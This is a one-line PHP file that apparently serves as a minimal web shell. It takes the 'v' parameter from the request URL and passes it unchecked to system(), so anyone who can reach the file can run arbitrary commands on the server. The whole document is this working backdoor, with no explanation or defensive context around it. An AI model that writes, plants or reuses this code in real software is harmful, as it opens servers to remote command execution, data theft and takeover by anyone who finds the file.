<?php $s = sscanf($_GET["v"], "%s"); system($s[0]);
